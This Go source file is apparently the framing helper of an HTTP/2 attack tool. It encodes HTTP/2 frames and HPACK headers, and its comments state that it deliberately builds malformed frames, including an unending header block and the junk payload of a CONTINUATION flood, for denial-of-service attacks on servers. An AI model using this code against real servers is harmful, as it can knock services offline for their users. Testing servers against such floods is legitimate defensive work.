package attack

import (
	"encoding/binary"
	"fmt"
)

// Just enough HTTP/2 framing (RFC 9113) and HPACK (RFC 7541) to write the
// frames the h2 attacks need and to read what a server answers. The frames
// are malformed on purpose where the attack says so (a header block that
// never ends), which a conforming encoder would refuse to produce.

// h2Preface is the client connection preface.
const h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Frame types.
const (
	frameData         = 0x0
	frameHeaders      = 0x1
	frameRSTStream    = 0x3
	frameSettings     = 0x4
	framePing         = 0x6
	frameGoAway       = 0x7
	frameWindowUpdate = 0x8
	frameContinuation = 0x9
)

// Frame flags.
const (
	flagEndStream  = 0x1
	flagAck        = 0x1
	flagEndHeaders = 0x4
)

// Error codes used or named.
const (
	codeCancel = 0x8
)

// maxFrameLen is the default SETTINGS_MAX_FRAME_SIZE, which we never raise.
const maxFrameLen = 1 << 14

// codeNames name the HTTP/2 error codes in reports.
var codeNames = []string{
	"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
	"SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
	"CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
	"INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
}

func codeName(c uint32) string {
	if int(c) < len(codeNames) {
		return codeNames[c]
	}
	return fmt.Sprintf("0x%x", c)
}

// appendFrameHeader appends the 9-byte frame header.
func appendFrameHeader(dst []byte, length int, typ, flags byte, stream uint32) []byte {
	dst = append(dst, byte(length>>16), byte(length>>8), byte(length), typ, flags)
	return binary.BigEndian.AppendUint32(dst, stream&0x7fffffff)
}

// appendFrame appends a whole frame.
func appendFrame(dst []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	return append(appendFrameHeader(dst, len(payload), typ, flags, stream), payload...)
}

// appendRST appends RST_STREAM(stream, code).
func appendRST(dst []byte, stream, code uint32) []byte {
	return binary.BigEndian.AppendUint32(appendFrameHeader(dst, 4, frameRSTStream, 0, stream), code)
}

// HPACK static table indices used by the request blocks.
const (
	hpAuthority = 1
	hpMethodGet = 2
	hpPathRoot  = 4
	hpSchemeHTP = 6
	hpSchemeTLS = 7
	hpUserAgent = 58
)

// appendHpackInt appends v with an n-bit prefix whose high bits are first.
func appendHpackInt(dst []byte, first byte, n uint, v uint64) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		return append(dst, first|byte(v))
	}
	dst = append(dst, first|byte(limit))
	for v -= limit; v >= 128; v >>= 7 {
		dst = append(dst, byte(v&0x7f)|0x80)
	}
	return append(dst, byte(v))
}

// appendHpackString appends a string literal without Huffman coding.
func appendHpackString(dst []byte, s string) []byte {
	return append(appendHpackInt(dst, 0, 7, uint64(len(s))), s...)
}

// appendIndexed appends a field from the static table.
func appendIndexed(dst []byte, idx uint64) []byte { return appendHpackInt(dst, 0x80, 7, idx) }

// appendLiteral appends "literal without indexing" with a static name.
func appendLiteral(dst []byte, nameIdx uint64, value string) []byte {
	return appendHpackString(appendHpackInt(dst, 0, 4, nameIdx), value)
}

// appendLiteralName appends "literal without indexing" with a new name.
func appendLiteralName(dst []byte, name, value []byte) []byte {
	dst = append(dst, 0)
	dst = append(appendHpackInt(dst, 0, 7, uint64(len(name))), name...)
	return append(appendHpackInt(dst, 0, 7, uint64(len(value))), value...)
}

// appendRequestBlock appends the header block of a GET.
func appendRequestBlock(dst []byte, tls bool, authority, path, ua string) []byte {
	dst = appendIndexed(dst, hpMethodGet)
	if tls {
		dst = appendIndexed(dst, hpSchemeTLS)
	} else {
		dst = appendIndexed(dst, hpSchemeHTP)
	}
	dst = appendLiteral(dst, hpAuthority, authority)
	dst = appendLiteral(dst, hpPathRoot, path)
	return appendLiteral(dst, hpUserAgent, ua)
}

// appendJunkBlock appends junk header fields until the block is n bytes
// long (or a little less): the payload of a CONTINUATION flood.
func appendJunkBlock(dst []byte, n int) []byte {
	start := len(dst)
	var name, value [24]byte
	for len(dst)-start+1+1+8+1+16 <= n {
		dst = appendLiteralName(dst, appendLetters(append(name[:0], "x-"...), 6), appendHex(value[:0], 16))
	}
	return dst
}

// frameHeader is a parsed frame header.
type frameHeader struct {
	length int
	typ    byte
	flags  byte
	stream uint32
}

func parseFrameHeader(b []byte) frameHeader {
	return frameHeader{
		length: int(b[0])<<16 | int(b[1])<<8 | int(b[2]),
		typ:    b[3],
		flags:  b[4],
		stream: binary.BigEndian.Uint32(b[5:9]) & 0x7fffffff,
	}
}
